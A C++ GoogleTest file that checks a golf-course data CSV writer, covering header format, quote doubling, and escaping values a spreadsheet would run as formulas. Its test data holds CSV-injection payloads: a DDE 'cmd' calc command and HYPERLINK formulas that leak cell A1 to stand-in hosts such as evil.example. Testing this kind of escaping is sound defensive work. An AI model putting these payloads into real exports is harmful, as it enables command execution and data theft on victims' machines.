#include <gtest/gtest.h>

#include "rules_test_support.h"

using namespace teebasket;
using namespace teebasket::test;

TEST(CsvLines, HeaderHasThirtyOneQuotedNamesWithoutATrailingComma) {
    const std::string header = CsvHeaderLine();
    EXPECT_EQ(header.size(), 351u);
    EXPECT_EQ(U(header.substr(0, 7)), "\"名称\",");
    EXPECT_EQ(U(header.substr(header.size() - 16)), ",\"詳細ページURL\"");
}

TEST(CsvLines, AnEmptyRecordKeepsTheOperatingStateAndQuotesEveryValue) {
    CourseRecord record;
    record[kColumnDetailUrl] = "https://b/guide/disp/c_id/1";
    std::string expected;
    for (int column = 0; column < 26; ++column) {
        expected += "\"\",";
    }
    expected += "\"" + A("運営中") + "\",\"\",\"\",\"\",\"https://b/guide/disp/c_id/1\",";
    EXPECT_EQ(CourseLine(record), expected);
}

TEST(CsvLines, DoublesQuotesAndKeepsPercentSigns) {
    CourseRecord record;
    record[kColumnName] = A("\"ゴルフ\" 100%");
    const std::string line = CourseLine(record);
    EXPECT_EQ(line.substr(0, 18), "\"\"\"" + A("ゴルフ") + "\"\" 100%\",");
}

namespace {

// The value of `column` as a course line writes it, without its quotes.
std::string WrittenValue(const std::string& value, int column = kColumnName) {
    CourseRecord record;
    record[column] = value;
    const std::string line = CourseLine(record);
    std::size_t start = 0;
    for (int skipped = 0; skipped < column; ++skipped) {
        start = line.find("\",", start) + 2;
    }
    const std::size_t end = line.find("\",", start + 1);
    return line.substr(start + 1, end - start - 1);
}

}  // namespace

TEST(CsvLines, ValuesASpreadsheetWouldRunAsFormulasBecomeText) {
    for (const std::string& value : std::vector<std::string>{"=cmd|' /C calc'!A0", "+1+1", "-2+3",
                                                             "@SUM(A1)", "\tX", "\r=1", "=1"}) {
        EXPECT_EQ(WrittenValue(value), "'" + value) << value;
    }
    // Further on in a record, and together with the doubling of quotes.
    EXPECT_EQ(WrittenValue(A(R"(=HYPERLINK("http://x/?leak="&A1,"クリック"))"), 6),
              "'" + A(R"(=HYPERLINK(""http://x/?leak=""&A1,""クリック""))"));
}

TEST(CsvLines, OrdinaryValuesStayAsTheyAre) {
    for (const std::string& value :
         std::vector<std::string>{"0436-12-3456", "-", "+", "=", "@", "4.5", "", "12" + A("件"),
                                  "https://b/guide/disp/c_id/1", " =1", A("＝1"), A("－1")}) {
        EXPECT_EQ(WrittenValue(value), value) << value;
    }
}

TEST(CsvLines, AHostileDetailPageIsWrittenAsText) {
    const std::vector<std::string> page =
        PageWithBody(R"(<li class="info-item"><h3 class="info-title">休場日</h3>)"
                     R"(<p>=HYPERLINK("http://evil.example/?leak="&amp;A1,"click")</p></li>)",
                     StructuredData(R"("name":"=cmd|' /C calc'!A0","image":"x")"));
    const std::string line = CourseLine(ParseDetail(page));
    EXPECT_EQ(line.substr(0, 22), R"("'=cmd|' /C calc'!A0",)");
    EXPECT_NE(line.find(R"(,"'=HYPERLINK(""http://evil.example/?leak=""&amp;A1)"),
              std::string::npos)
        << line;
}
